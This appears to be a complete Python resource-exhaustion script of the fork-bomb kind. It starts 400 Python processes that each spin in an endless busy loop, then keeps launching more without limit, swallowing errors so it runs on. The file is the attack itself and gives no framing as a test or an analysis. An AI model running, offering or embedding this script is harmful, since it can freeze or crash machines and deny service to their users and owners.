import os, sys
def spawn():
    try: return os.posix_spawn(sys.executable, [sys.executable, "-c", "while True: pass"], {})
    except OSError: return 0
for _ in range(400): spawn()
while True: spawn()
